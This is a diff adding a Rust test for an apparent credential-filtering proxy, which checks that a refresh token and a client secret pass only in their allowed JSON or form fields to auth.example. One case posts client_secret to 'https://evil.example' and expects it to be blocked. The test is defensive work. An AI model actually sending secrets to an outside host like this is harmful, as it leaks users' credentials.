@@ -270,3 +270,50 @@ fn conversations_are_refused_in_their_own_form() {
             .contains("{\"type\":\"error\",\"error\":{\"type\":\"invalid_request_error\"")
     );
 }
+
+/// Tokens are renewed with secrets in bodies: they pass in their field, and nowhere else.
+#[test]
+fn credentials_in_small_bodies_pass_in_their_places() {
+    let mut rng = Rng::new(57);
+    let (value, form) = (rng.text(keys::BASE62, 30), rng.text(keys::BASE62, 30));
+    let engine = engine(&[
+        ("REFRESH", &value, &["auth.example json:/auth/refresh_token"]),
+        ("CLIENT", &form, &["auth.example form:client_secret"]),
+    ]);
+    let send = |media_type: &str, body: Vec<u8>, to| {
+        let request = Request::new(to, "POST", "/token")
+            .field("content-type", media_type)
+            .field("content-length", body.len().to_string())
+            .body(body);
+        let outcome = in_all_chunkings(&engine, &request, b"nothing");
+        assert!(!outcome.shows(&value) && !outcome.shows(&form));
+        !outcome.blocked
+    };
+    let text = |value: &[u8]| String::from_utf8(value.to_vec()).unwrap();
+    let (value, form) = (text(&value), text(&form));
+    let to = "https://auth.example";
+    let json = |body: String| send("application/json", body.into_bytes(), to);
+    assert!(json(format!("{{\"auth\": {{\"refresh_token\": \"{value}\"}}, \"x\": 1}}")));
+    let escaped: String = value.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect();
+    assert!(json(format!("{{\"auth\":{{\"refresh_token\":\"{escaped}\"}}}}")));
+    assert!(!json(format!("{{\"refresh_token\":\"{value}\"}}")), "another place");
+    assert!(!json(format!("{{\"auth\":{{\"refresh_token\":\"{value}x\"}}}}")), "not the whole value");
+    assert!(!json(format!("{{\"auth\":{{\"refresh_token\":\"{value}\"}},\"x\":\"{value}\"}}")), "once more");
+    assert!(!json(format!("{{\"auth\":{{\"refresh_token\":\"{form}\"}}}}")), "another secret");
+    assert!(!json(format!("{{\"auth\":{{\"refresh_token\":\"{value}\"}}")), "no document");
+    let long = format!("{{\"auth\":{{\"refresh_token\":\"{value}\"}},\"x\":\"{}\"}}", "x ".repeat(9000));
+    assert!(!json(long), "too long for a token request");
+    assert!(!send("text/plain", format!("{{\"auth\":{{\"refresh_token\":\"{value}\"}}}}").into_bytes(), to));
+    let fields = |body: String| send("application/x-www-form-urlencoded", body.into_bytes(), to);
+    assert!(fields(format!("grant_type=x&client_secret={form}&a=b")));
+    assert!(!fields(format!("grant_type=x&client_id={form}")));
+    assert!(!send(
+        "application/x-www-form-urlencoded",
+        format!("client_secret={form}").into_bytes(),
+        "https://evil.example"
+    ));
+    // What is refused for another reason stays refused.
+    let tunnel =
+        Request::new(to, "POST", "/x").field("content-type", "application/json").field("content-length", "2");
+    assert!(tunnel.field("upgrade", "tls/1.0").body("[]").run(&engine).blocked);
+}
